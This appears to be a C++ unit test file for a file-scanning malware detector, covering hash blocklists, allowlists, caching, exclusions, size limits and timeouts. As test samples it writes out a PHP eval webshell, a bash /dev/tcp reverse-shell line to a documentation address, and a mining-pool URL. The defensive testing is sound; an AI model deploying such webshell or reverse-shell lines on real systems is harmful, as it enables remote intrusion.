#include "agent/scan/scanner.h"

#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <chrono>
#include <filesystem>
#include <fstream>

#include "agent/scan/scan_test_samples.h"
#include "common/hash.h"

namespace rampart::agent::scan {
namespace {

class ScannerTest : public ::testing::Test {
 protected:
  void SetUp() override {
    char tmpl[] = "/tmp/rampart-scanner-XXXXXX";
    dir_ = ::mkdtemp(tmpl);
    std::vector<RuleDiagnostic> diags;
    auto set = RuleSet::Compile(ShippedRuleSources(), "", &diags);
    ASSERT_TRUE(set.ok());
    rules_ = std::move(*set);
  }
  void TearDown() override { std::filesystem::remove_all(dir_); }

  std::string Write(const std::string& rel, const std::string& text) {
    const std::string p = dir_ + "/tree/" + rel;
    std::filesystem::create_directories(std::filesystem::path(p).parent_path());
    std::ofstream(p, std::ios::binary) << text;
    return p;
  }
  ScanReport Run(Scanner& s) {
    ScanOptions o;
    o.paths = {dir_ + "/tree"};
    o.threads = 2;
    auto r = s.Run(o);
    EXPECT_TRUE(r.ok()) << r.status().ToString();
    return std::move(*r);
  }

  std::string dir_;
  std::unique_ptr<RuleSet> rules_;
};

TEST_F(ScannerTest, FindsSamplesWithHashesAndSkipsSpecialFiles) {
  const std::string webshell = "<?php @eval($_POST['pass']);?>";
  const std::string shell = Write("www/x.php", webshell);
  Write("www/ok.php", "<?php echo 'hello';\n");
  Write("empty", "");
  // A symlink to a malicious file outside the tree is not followed, nor a FIFO opened.
  const std::string outside = dir_ + "/outside.sh";
  std::ofstream(outside) << "bash -i >& /dev/tcp/192.0.2.1/9 0>&1\n";
  ASSERT_EQ(::symlink(outside.c_str(), (dir_ + "/tree/link.sh").c_str()), 0);
  ASSERT_EQ(::symlink((dir_).c_str(), (dir_ + "/tree/loop").c_str()), 0);
  ASSERT_EQ(::mkfifo((dir_ + "/tree/fifo").c_str(), 0600), 0);

  Scanner scanner(*rules_, nullptr, nullptr);
  ScanReport r = Run(scanner);
  ASSERT_EQ(r.findings.size(), 1u);
  const Finding& f = r.findings[0];
  EXPECT_EQ(f.path, shell);
  EXPECT_EQ(f.sha256, Sha256Hex(webshell));
  EXPECT_EQ(f.size, webshell.size());
  EXPECT_EQ(f.severity, "critical");
  EXPECT_EQ(f.rules,
            (std::vector<std::string>{"php_webshell_eval_request", "php_webshell_china_chopper"}));
  EXPECT_EQ(r.stats.files, 3u);
  EXPECT_EQ(r.stats.skipped, 1u);  // the FIFO
  EXPECT_EQ(r.stats.errors, 0u);
}

TEST_F(ScannerTest, UnchangedTreeRescansFromTheCacheInANewProcess) {
  for (const auto& s : testing::RuleSamples()) Write("samples/" + s.name, s.text);
  const std::string cache_dir = dir_ + "/cache";
  std::size_t first_findings = 0;
  {
    ResultCache cache(cache_dir, rules_->content_hash());
    cache.Load();
    Scanner scanner(*rules_, nullptr, &cache);
    ScanReport r = Run(scanner);
    first_findings = r.findings.size();
    EXPECT_EQ(first_findings, testing::RuleSamples().size());
    EXPECT_GT(r.stats.bytes_read, 0u);
    ASSERT_TRUE(cache.Save().ok());
  }
  // A fresh cache object reads the file, like a new process would.
  ResultCache cache(cache_dir, rules_->content_hash());
  cache.Load();
  Scanner scanner(*rules_, nullptr, &cache);
  ScanReport again = Run(scanner);
  EXPECT_EQ(again.stats.bytes_read, 0u);
  EXPECT_EQ(again.stats.cached, again.stats.files);
  EXPECT_EQ(again.findings.size(), first_findings);

  // Touching one file makes only that one be read again.
  const std::string changed = Write("samples/r.sh", "echo fine\n");
  ScanReport third = Run(scanner);
  EXPECT_EQ(third.stats.bytes_read, std::string("echo fine\n").size());
  EXPECT_EQ(third.findings.size(), first_findings - 1);
}

TEST_F(ScannerTest, BlocklistAddsAndAllowlistClearsFindings) {
  const std::string blob = "just some binary payload \x01\x02";
  const std::string bad = Write("bin/payload", blob);
  const std::string eicar = Write("eicar.com", testing::Eicar());
  Write("trusted/x.php", "<?php @eval($_POST['pass']);?>");
  HashIntel intel;
  intel.AddBlock({Sha256Hex(blob), "", "Payload.X", "critical", "trojan"});
  intel.AddTrust({TrustEntry::Kind::kDirectory, dir_ + "/tree/trusted"});
  intel.AddTrust({TrustEntry::Kind::kSha256, Sha256Hex(testing::Eicar())});
  Scanner scanner(*rules_, &intel, nullptr);
  ScanReport r = Run(scanner);
  ASSERT_EQ(r.findings.size(), 1u);
  EXPECT_EQ(r.findings[0].path, bad);
  EXPECT_EQ(r.findings[0].rules, std::vector<std::string>{"blocklist:Payload.X"});
  EXPECT_EQ(r.findings[0].severity, "critical");
  EXPECT_EQ(r.findings[0].family, "trojan");
  (void)eicar;
}

TEST_F(ScannerTest, ExcludedDirectoriesAreNotEntered) {
  Write("data/scan/rules.yarc", "<?php @eval($_POST['pass']);?>");
  Write("www/x.php", "<?php @eval($_POST['pass']);?>");
  Scanner scanner(*rules_, nullptr, nullptr);
  ScanOptions o;
  o.paths = {dir_ + "/tree"};
  o.exclude_dirs = {dir_ + "/tree/data"};
  auto r = scanner.Run(o);
  ASSERT_TRUE(r.ok());
  ASSERT_EQ(r->findings.size(), 1u);
  EXPECT_EQ(r->findings[0].path, dir_ + "/tree/www/x.php");
}

TEST_F(ScannerTest, Md5BlocklistComputesMd5) {
  const std::string blob = "abc";
  Write("f", blob);
  HashIntel intel;
  intel.AddBlock({"", "900150983cd24fb0d6963f7d28e17f72", "abc", "high", ""});  // MD5("abc")
  Scanner scanner(*rules_, &intel, nullptr);
  ScanReport r = Run(scanner);
  ASSERT_EQ(r.findings.size(), 1u);
  EXPECT_EQ(r.findings[0].md5, "900150983cd24fb0d6963f7d28e17f72");
}

TEST_F(ScannerTest, MaxFileSizeSkipsAndScanFileRefusesSymlinks) {
  Write("big.sh", std::string(4096, ' ') + "bash -i >& /dev/tcp/192.0.2.1/9 0>&1\n");
  Scanner scanner(*rules_, nullptr, nullptr);
  ScanOptions o;
  o.paths = {dir_ + "/tree"};
  o.max_file_size = 1024;
  auto r = scanner.Run(o);
  ASSERT_TRUE(r.ok());
  EXPECT_TRUE(r->findings.empty());
  EXPECT_EQ(r->stats.skipped, 1u);
  ASSERT_EQ(::symlink((dir_ + "/tree/big.sh").c_str(), (dir_ + "/l").c_str()), 0);
  EXPECT_FALSE(scanner.ScanFile(dir_ + "/l", 1 << 20).ok());
  auto direct = scanner.ScanFile(dir_ + "/tree/big.sh", 1 << 20);
  ASSERT_TRUE(direct.ok());
  EXPECT_TRUE(direct->has_value());
}

TEST_F(ScannerTest, TimeoutStopsAThrottledScanAndReportsIt) {
  for (int i = 0; i < 300; ++i) Write("f" + std::to_string(i), std::string(256 << 10, 'x'));
  Scanner scanner(*rules_, nullptr, nullptr);
  ScanOptions o;
  o.paths = {dir_ + "/tree"};
  o.threads = 1;
  o.cpu_percent = 1;  // at 1 % of a CPU, 75 MB take far longer than the timeout
  o.timeout_seconds = 0.5;
  const auto start = std::chrono::steady_clock::now();
  auto r = scanner.Run(o);
  const double took =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
  ASSERT_TRUE(r.ok());
  EXPECT_TRUE(r->stats.timed_out);
  EXPECT_LT(r->stats.files, 300u);
  EXPECT_LT(took, 5.0);
}

TEST_F(ScannerTest, LargeFilesAreHashedAndMatchedThroughout) {
  // Over the large-file threshold, so pages are released behind the scan while it reads.
  std::string big(24u << 20, 'a');
  const std::string marker = "stratum+tcp://pool.example.invalid:3333";
  big.replace(big.size() - marker.size() - 1, marker.size(), marker);
  Write("big.bin", big);
  Scanner scanner(*rules_, nullptr, nullptr);
  ScanReport r = Run(scanner);
  ASSERT_EQ(r.findings.size(), 1u);
  EXPECT_EQ(r.findings[0].rules, std::vector<std::string>{"miner_stratum_pool_url"});
  EXPECT_EQ(r.findings[0].sha256, Sha256Hex(big));
}

TEST(ParseSize, UnitsAndErrors) {
  EXPECT_EQ(*ParseSize("4096"), 4096u);
  EXPECT_EQ(*ParseSize("512K"), 512u << 10);
  EXPECT_EQ(*ParseSize("100M"), 100u << 20);
  EXPECT_EQ(*ParseSize("2G"), std::uint64_t{2} << 30);
  EXPECT_FALSE(ParseSize("").ok());
  EXPECT_FALSE(ParseSize("12X").ok());
  EXPECT_FALSE(ParseSize("M").ok());
}

}  // namespace
}  // namespace rampart::agent::scan
